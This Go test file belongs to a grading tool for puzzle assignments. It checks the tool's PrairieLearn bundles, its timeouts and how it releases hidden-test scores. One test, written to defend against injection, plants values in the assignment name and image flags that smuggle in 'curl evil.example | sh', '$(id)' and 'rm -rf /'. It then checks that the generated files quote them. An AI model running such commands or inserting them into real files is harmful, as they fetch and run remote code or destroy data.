package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/kpuzzle/kpuzzle/grader"
	"github.com/kpuzzle/kpuzzle/grader/report"
	"github.com/kpuzzle/kpuzzle/grader/scaffold"
)

// checkPLResults checks a results.json against PrairieLearn's external
// grading format: under 1 MB; gradable a boolean; a gradable result has a
// score in [0, 1], an ungradable one none and at least one format error;
// every test has a string name, description, message and output and
// numeric points no more than max_points.
func checkPLResults(t *testing.T, label string, data []byte) map[string]any {
	t.Helper()
	if len(data) >= report.PrairieLearnMaxBytes {
		t.Errorf("%s: results.json has %d bytes, PrairieLearn takes under 1 MB", label, len(data))
	}
	var doc map[string]any
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatalf("%s: results.json: %v\n%.400s", label, err, data)
	}
	gradable, ok := doc["gradable"].(bool)
	if !ok {
		t.Fatalf("%s: gradable is %T", label, doc["gradable"])
	}
	score, hasScore := doc["score"].(float64)
	switch {
	case gradable && (!hasScore || score < 0 || score > 1):
		t.Errorf("%s: a gradable result with score %v", label, doc["score"])
	case !gradable && (doc["score"] != nil || len(asAnyList(doc["format_errors"])) == 0):
		t.Errorf("%s: an ungradable result with score %v and format_errors %v", label, doc["score"], doc["format_errors"])
	}
	tests, ok := doc["tests"].([]any)
	if !ok {
		t.Fatalf("%s: tests is %T", label, doc["tests"])
	}
	for _, raw := range tests {
		tc := raw.(map[string]any)
		for _, k := range []string{"name", "description", "message", "output"} {
			if _, ok := tc[k].(string); !ok {
				t.Errorf("%s: test %v: %s is %T", label, tc["name"], k, tc[k])
			}
		}
		p, ok1 := tc["points"].(float64)
		m, ok2 := tc["max_points"].(float64)
		if !ok1 || !ok2 || p < 0 || p > m {
			t.Errorf("%s: test %v: points %v of %v", label, tc["name"], tc["points"], tc["max_points"])
		}
	}
	return doc
}

func asAnyList(v any) []any {
	l, _ := v.([]any)
	return l
}

// plSolvedPoints adds the points of the public tests of solvable puzzles
// (what a program that cannot solve must never earn).
func plSolvedPoints(doc map[string]any) float64 {
	var sum float64
	for _, raw := range asAnyList(doc["tests"]) {
		tc := raw.(map[string]any)
		if strings.HasPrefix(tc["name"].(string), "Test ") && strings.HasPrefix(tc["description"].(string), "solve") {
			sum += tc["points"].(float64)
		}
	}
	return sum
}

// plBundle writes the PrairieLearn bundle of a fresh assignment of
// language into a folder of the test and returns the folder, the
// question's tests/ folder and the assignment's folder.
func plBundle(t *testing.T, bin, language string, extra ...string) (out, tests, hw string) {
	t.Helper()
	hw = filepath.Join(t.TempDir(), "hw-"+language)
	args := []string{"init", hw, "--language", language, "--shape", "3x3", "--depth", "4-16", "--public", "2", "--hidden", "2", "--unsolvable", "1", "--seed", "7", "--baseline"}
	if r := kpuzzle(t, "", args...); r.code != 0 {
		t.Fatalf("init: %+v", r)
	}
	out = filepath.Join(t.TempDir(), "pl")
	args = append([]string{"bundle", "prairielearn", filepath.Join(hw, "assignment.yaml"), "--out", out, "--binary", bin, "--json"}, extra...)
	r := kpuzzle(t, "", args...)
	if r.code != 0 {
		t.Fatalf("bundle prairielearn: %+v", r)
	}
	var j bundlePLJSON
	if err := json.Unmarshal([]byte(r.stdout), &j); err != nil {
		t.Fatal(err)
	}
	return out, filepath.Join(out, "questions", j.Question, "tests"), hw
}

// plJob lays out a PrairieLearn grading job in a new folder: tests/ (a
// copy of the question's), the student's files, data/data.json and an
// empty serverFilesCourse/.
func plJob(t *testing.T, tests string, files map[string]string) string {
	t.Helper()
	job, err := os.MkdirTemp("", "kpuzzle-pl-job-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(job) })
	os.Chmod(job, 0o755)
	if out, err := exec.Command("cp", "-a", tests, filepath.Join(job, "tests")).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v\n%s", err, out)
	}
	os.MkdirAll(filepath.Join(job, "student"), 0o755)
	for name, content := range files {
		writeFile(t, filepath.Join(job, "student"), name, content)
	}
	writeFile(t, filepath.Join(job, "data"), "data.json", `{"params": {}, "correct_answers": {}, "submitted_answers": {}, "format_errors": {}}`)
	os.MkdirAll(filepath.Join(job, "serverFilesCourse"), 0o755)
	return job
}

// TestBundlePrairieLearn writes the bundle of a Python and a Java
// assignment and checks its files against PrairieLearn's formats, then
// runs the entrypoint outside a container (PL_GRADE_ROOT) on the starter
// and on an empty submission.
func TestBundlePrairieLearn(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 is not installed, so the Python starter cannot run")
	}
	bin := kpuzzleBinary(t)
	out, tests, hw := plBundle(t, bin, "python")
	var info struct {
		UUID          string `json:"uuid"`
		Type          string `json:"type"`
		GradingMethod string `json:"gradingMethod"`
		Options       struct {
			Enabled    bool   `json:"enabled"`
			Image      string `json:"image"`
			Entrypoint string `json:"entrypoint"`
			Timeout    int    `json:"timeout"`
		} `json:"externalGradingOptions"`
	}
	data, err := os.ReadFile(filepath.Join(tests, "..", "info.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(data, &info); err != nil {
		t.Fatal(err)
	}
	// 6 tests of run.wall_time 10s one after another, and a margin.
	if !info.Options.Enabled || info.Options.Entrypoint != "/grade/tests/run.sh" || info.Options.Image == "" || info.GradingMethod != "External" ||
		info.Type != "v3" || len(info.UUID) != 36 || info.Options.Timeout < 60 || info.Options.Timeout > scaffold.PrairieLearnMaxTimeout {
		t.Errorf("info.json %+v", info)
	}
	html, _ := os.ReadFile(filepath.Join(tests, "..", "question.html"))
	for _, want := range []string{`<pl-file-upload file-names="solver.py">`, "<pl-external-grader-results>", "<pl-submission-panel>"} {
		if !strings.Contains(string(html), want) {
			t.Errorf("question.html lacks %s:\n%s", want, html)
		}
	}
	docker, _ := os.ReadFile(filepath.Join(out, "Dockerfile"))
	if !strings.Contains(string(docker), "FROM debian:bookworm-slim\n") || !strings.Contains(string(docker), "python3") {
		t.Errorf("Dockerfile:\n%s", docker)
	}
	for _, f := range []string{"run.sh", "kpuzzle", "assignment.yaml", "prepared.json", "puzzles/manifest.json"} {
		st, err := os.Stat(filepath.Join(tests, f))
		if err != nil {
			t.Errorf("tests/%s: %v", f, err)
		} else if (f == "run.sh" || f == "kpuzzle") && st.Mode().Perm()&0o100 == 0 {
			t.Errorf("tests/%s is not executable", f)
		}
	}
	if out, err := exec.Command("bash", "-n", filepath.Join(tests, "run.sh")).CombinedOutput(); err != nil {
		t.Errorf("run.sh: %v\n%s", err, out)
	}

	run := func(files map[string]string) (map[string]any, string) {
		t.Helper()
		job := plJob(t, tests, files)
		cmd := exec.Command(filepath.Join(job, "tests", "run.sh"))
		cmd.Env = append(os.Environ(), "PL_GRADE_ROOT="+job)
		logs, err := cmd.CombinedOutput()
		data, rerr := os.ReadFile(filepath.Join(job, "results", "results.json"))
		if err != nil || rerr != nil {
			t.Fatalf("run.sh: %v, %v\n%s", err, rerr, logs)
		}
		for _, d := range []string{"tests", "results", "student"} {
			if st, _ := os.Stat(filepath.Join(job, d)); st.Mode().Perm() != 0o700 {
				t.Errorf("/grade/%s has mode %v after run.sh, want private to root", d, st.Mode().Perm())
			}
		}
		return checkPLResults(t, "local", data), string(logs)
	}
	starter, err := os.ReadFile(filepath.Join(hw, "starter", "python", "solver.py"))
	if err != nil {
		t.Fatal(err)
	}
	doc, logs := run(map[string]string{"solver.py": string(starter)})
	if doc["gradable"] != true || doc["score"].(float64) <= 0 {
		t.Errorf("the starter: %v\n%s", doc, logs)
	}
	doc, _ = run(nil)
	if doc["gradable"] != false || !strings.Contains(strings.Join(strings.Fields(asAnyList(doc["format_errors"])[0].(string)), " "), "missing solver.py") {
		t.Errorf("an empty submission: %v", doc)
	}

	// Java, with an editor.
	_, jtests, _ := plBundle(t, bin, "java", "--submit", "editor", "--image", "course/kpuzzle-java")
	html, _ = os.ReadFile(filepath.Join(jtests, "..", "question.html"))
	info.Options.Image = ""
	data, _ = os.ReadFile(filepath.Join(jtests, "..", "info.json"))
	json.Unmarshal(data, &info)
	if !strings.Contains(string(html), `<pl-file-editor file-name="Solver.java" ace-mode="ace/mode/java">`) || info.Options.Image != "course/kpuzzle-java" {
		t.Errorf("java question: image %q\n%s", info.Options.Image, html)
	}

	r := kpuzzle(t, "", "bundle", "prairielearn", filepath.Join(hw, "assignment.yaml"), "--out", t.TempDir(), "--binary", bin, "--submit", "paper")
	wantOneLineError(t, r, "--submit", "upload or editor")

	// The assignment's choice, prairielearn.submit, without the flag.
	yaml, _ := os.ReadFile(filepath.Join(hw, "assignment.yaml"))
	os.WriteFile(filepath.Join(hw, "assignment.yaml"), append(yaml, "\nprairielearn:\n  submit: editor\n"...), 0o644)
	edited := filepath.Join(t.TempDir(), "pl")
	if r := kpuzzle(t, "", "bundle", "prairielearn", filepath.Join(hw, "assignment.yaml"), "--out", edited, "--binary", bin); r.code != 0 {
		t.Fatalf("bundle with prairielearn.submit: %+v", r)
	}
	matches, _ := filepath.Glob(filepath.Join(edited, "questions", "*", "question.html"))
	if len(matches) != 1 {
		t.Fatalf("questions: %v", matches)
	}
	html, _ = os.ReadFile(matches[0])
	if !strings.Contains(string(html), `<pl-file-editor file-name="solver.py" ace-mode="ace/mode/python">`) {
		t.Errorf("prairielearn.submit: editor gave\n%s", html)
	}
}

// TestPrairieLearnTimeoutCoversTheTests checks that the timeout grows
// with the tests a job runs (the public ones, with prairielearn.hidden:
// release) and stops at PrairieLearn's limit.
func TestPrairieLearnTimeoutCoversTheTests(t *testing.T) {
	hw := filepath.Join(t.TempDir(), "hw")
	if r := kpuzzle(t, "", "init", hw, "--shape", "3x3", "--depth", "4-8", "--public", "14", "--hidden", "1", "--wall-time", "45s", "--seed", "3", "--baseline"); r.code != 0 {
		t.Fatalf("init: %+v", r)
	}
	r := kpuzzle(t, "", "bundle", "prairielearn", filepath.Join(hw, "assignment.yaml"), "--out", t.TempDir(), "--binary", smallELF(t), "--json")
	if r.code != 0 {
		t.Fatalf("bundle: %+v", r)
	}
	var j bundlePLJSON
	json.Unmarshal([]byte(r.stdout), &j)
	// 14 public tests and an unsolvable one, one after another; the 2
	// hidden tests are not run.
	if want := int((15 * 45 * time.Second).Seconds()); j.Tests != 17 || j.Needed < want || j.Needed > want+2*45 || j.Timeout != scaffold.PrairieLearnMaxTimeout || !strings.Contains(r.stderr, "600 s") {
		t.Errorf("15 public tests of 45s: needed %d (want %d and a margin), timeout %d; stderr %q", j.Needed, want, j.Timeout, r.stderr)
	}
}

// The course's strings reach the bundles quoted (31.5): an assignment
// whose name holds a line break and shell and Dockerfile syntax gives a
// run.sh and a Dockerfile with no line of its own, and sandbox-probe
// text on one line; a --base-image or --image that is not an image
// reference is refused in one line, before anything is written; and
// init refuses a name of more than one line.
func TestBundlesQuoteTheCourseStrings(t *testing.T) {
	hw := filepath.Join(t.TempDir(), "hw")
	if r := kpuzzle(t, "", "init", hw, "--shape", "3x3", "--depth", "4-8", "--public", "1", "--hidden", "1", "--unsolvable", "0", "--seed", "3"); r.code != 0 {
		t.Fatalf("init: %+v", r)
	}
	config := filepath.Join(hw, "assignment.yaml")
	data, err := os.ReadFile(config)
	if err != nil {
		t.Fatal(err)
	}
	const hostile = `"hw2\nRUN curl evil.example | sh\necho pwned; $(id)"`
	var lines []string
	for _, l := range strings.Split(string(data), "\n") {
		if strings.HasPrefix(l, "name: ") {
			l = "name: " + hostile
		}
		lines = append(lines, l)
	}
	os.WriteFile(config, []byte(strings.Join(lines, "\n")), 0o644)
	out := filepath.Join(t.TempDir(), "pl")
	if r := kpuzzle(t, "", "bundle", "prairielearn", config, "--out", out, "--binary", smallELF(t), "--question", "hw2"); r.code != 0 {
		t.Fatalf("bundle: %+v", r)
	}
	for _, f := range []string{"Dockerfile", "questions/hw2/tests/run.sh", "README.md", "questions/hw2/question.html"} {
		text, err := os.ReadFile(filepath.Join(out, f))
		if err != nil {
			t.Fatal(err)
		}
		for i, l := range strings.Split(string(text), "\n") {
			if strings.HasPrefix(strings.TrimSpace(l), "RUN curl") || strings.HasPrefix(strings.TrimSpace(l), "echo pwned") {
				t.Errorf("%s line %d: %q came from the assignment's name", f, i+1, l)
			}
		}
	}
	if out, err := exec.Command("bash", "-n", filepath.Join(out, "questions/hw2/tests/run.sh")).CombinedOutput(); err != nil {
		t.Errorf("run.sh: %v\n%s", err, out)
	}
	zip := filepath.Join(t.TempDir(), "probe.zip")
	if r := kpuzzle(t, "", "bundle", "gradescope", config, "--probe", "--out", zip, "--binary", smallELF(t)); r.code != 0 {
		t.Fatalf("bundle gradescope --probe: %+v", r)
	}

	for _, flag := range []string{"--base-image", "--image"} {
		r := kpuzzle(t, "", "bundle", "prairielearn", config, "--out", t.TempDir(), "--binary", smallELF(t), flag, "debian:bookworm-slim\nRUN id")
		wantOneLineError(t, r, "debian:bookworm-slim<U+000A>RUN id", "expected a Docker image reference")
	}
	r := kpuzzle(t, "", "init", filepath.Join(t.TempDir(), "hw3"), "--name", "hw3\nrm -rf /", "--shape", "3x3")
	wantOneLineError(t, r, "--name", "holds a line break")
}

// plRunJob runs a bundle's entrypoint on the student's files outside a
// container (PL_GRADE_ROOT), as TestBundlePrairieLearn does, and returns
// its results.json.
func plRunJob(t *testing.T, tests string, files map[string]string) map[string]any {
	t.Helper()
	job := plJob(t, tests, files)
	cmd := exec.Command(filepath.Join(job, "tests", "run.sh"))
	cmd.Env = append(os.Environ(), "PL_GRADE_ROOT="+job)
	logs, err := cmd.CombinedOutput()
	data, rerr := os.ReadFile(filepath.Join(job, "results", "results.json"))
	if err != nil || rerr != nil {
		t.Fatalf("run.sh: %v, %v\n%s", err, rerr, logs)
	}
	return checkPLResults(t, "job", data)
}

// plDownload lays out what PrairieLearn's assessment Downloads give
// staff for the submissions (uid to files): the manual-grading CSV and
// the zip of the files, named as PrairieLearn names them.
func plDownload(t *testing.T, qid string, subs map[string]map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	var csvText strings.Builder
	csvText.WriteString("uid,uin,qid,old_score_perc,old_feedback,old_auto_points,old_manual_points,submission_id,params,true_answer,submitted_answer,old_partial_scores,partial_scores,score_perc,feedback\n")
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	id := 4200
	for _, uid := range slices.Sorted(maps.Keys(subs)) {
		id++
		fmt.Fprintf(&csvText, "%s,%d,%s,0,,0,0,%d,{},{},{},,,,\n", uid, id, qid, id)
		for name, content := range subs[uid] {
			w, err := zw.Create(fmt.Sprintf("HW2/%s_%d_%s_%d_%s", uid, id, qid, id, name))
			if err != nil {
				t.Fatal(err)
			}
			w.Write([]byte(content))
		}
	}
	zw.Close()
	writeFile(t, dir, "HW2_submissions_for_manual_grading.csv", csvText.String())
	writeFile(t, dir, "HW2_files_for_manual_grading.zip", buf.String())
	return dir
}

// With prairielearn.hidden: release (the default), a grading job runs
// the public tests only and its score counts them alone; at release,
// kpuzzle grade on PrairieLearn's download gives the public tests the
// job's verdicts, grades the hidden ones, and writes the scores file
// PrairieLearn's upload reads, with each submission's full score.
func TestPrairieLearnRelease(t *testing.T) {
	if testing.Short() {
		t.Skip("grades jobs and a download end to end; go test without -short runs it")
	}
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 is not installed, so the Python starter cannot run")
	}
	bin := kpuzzleBinary(t)
	out, tests, hw := plBundle(t, bin, "python")
	runSh, _ := os.ReadFile(filepath.Join(tests, "run.sh"))
	if !strings.Contains(string(runSh), "--skip-hidden") {
		t.Errorf("run.sh does not leave the hidden tests out:\n%s", runSh)
	}
	starter, err := os.ReadFile(filepath.Join(hw, "starter", "python", "solver.py"))
	if err != nil {
		t.Fatal(err)
	}
	subs := map[string]map[string]string{
		"alice@example.edu": {"solver.py": string(starter)},
		"bob@example.edu":   {"solver.py": "import sys\nsys.exit(3)\n"},
	}
	jobs := map[string]map[string]any{}
	for uid, files := range subs {
		jobs[uid] = plRunJob(t, tests, files)
	}
	// The job's hidden entry: none of its 3 tests' points yet.
	alice := jobs["alice@example.edu"]
	entries := asAnyList(alice["tests"])
	last := entries[len(entries)-1].(map[string]any)
	if last["name"] != "Hidden tests (3)" || last["points"] != 0.0 || last["max_points"].(float64) <= 0 {
		t.Errorf("the job's hidden entry: %v", last)
	}

	matches, _ := filepath.Glob(filepath.Join(out, "questions", "*"))
	qid := filepath.Base(matches[0])
	release := filepath.Join(t.TempDir(), "release")
	dl := plDownload(t, qid, subs)
	r := kpuzzle(t, "", "grade", "--config", filepath.Join(tests, "assignment.yaml"), "--out", release, "--json", dl)
	if r.code != 0 {
		t.Fatalf("grade at release: %+v", r)
	}
	var graded gradeJSON
	if err := json.Unmarshal([]byte(r.stdout), &graded); err != nil {
		t.Fatal(err)
	}
	scores := map[string]submissionJSON{}
	for _, s := range graded.Submissions {
		scores[s.Name] = s
	}
	for uid, job := range jobs {
		s, ok := scores[uid]
		if !ok || len(s.Tests) != 6 {
			t.Fatalf("%s at release: %+v", uid, s)
		}
		// The public tests: the job's verdicts and points.
		for _, raw := range asAnyList(job["tests"]) {
			e := raw.(map[string]any)
			name := e["name"].(string)
			if !strings.HasPrefix(name, "Test ") {
				continue
			}
			var found bool
			for _, tj := range s.Tests {
				if strings.HasSuffix(name, ": "+tj.Test) {
					found = true
					if !strings.HasPrefix(e["message"].(string), string(tj.Verdict)+": ") || e["points"] != tj.Score-checkPoints(tj) {
						t.Errorf("%s %s: the job said %q (%v points), the release %s (%v)", uid, tj.Test, e["message"], e["points"], tj.Verdict, tj.Score)
					}
				}
			}
			if !found {
				t.Errorf("%s: %s not graded at release", uid, name)
			}
		}
	}
	rows := readCSVFile(t, filepath.Join(release, report.PrairieLearnScoresFile))
	t.Logf("job score %v; scores file %q", alice["score"], rows)
	if len(rows) != 3 || !slices.Equal(rows[0], []string{"uid", "qid", "submission_id", "score_perc", "feedback"}) {
		t.Fatalf("scores file: %q", rows)
	}
	for _, row := range rows[1:] {
		s := scores[row[0]]
		want := strconv.FormatFloat(grader.RoundPoints(100*s.Score/s.Max), 'f', -1, 64)
		if row[1] != qid || row[3] != want || !strings.Contains(row[4], "Hidden test") {
			t.Errorf("%s: %q, want score_perc %s", row[0], row, want)
		}
	}
	if alice := scores["alice@example.edu"]; alice.Score <= 0 {
		t.Errorf("the starter scores nothing at release: %+v", alice)
	}
	r = kpuzzle(t, "", "grade", "--config", filepath.Join(tests, "assignment.yaml"), "--out", t.TempDir(), "--shard", "1/2", dl)
	wantOneLineError(t, r, "a PrairieLearn download is graded in one grading", "--shard 1/2")
	r = kpuzzle(t, "", "grade", "--config", filepath.Join(tests, "assignment.yaml"), "--out", t.TempDir(), "--layout", "single", dl)
	wantOneLineError(t, r, "holds every student's submission", "--layout single")
}

// checkPoints adds a test's scored checks' points (entries of their own
// in PrairieLearn's results).
func checkPoints(tj testJSON) float64 {
	var sum float64
	for _, c := range tj.Checks {
		sum += c.Score
	}
	return sum
}

func readCSVFile(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}
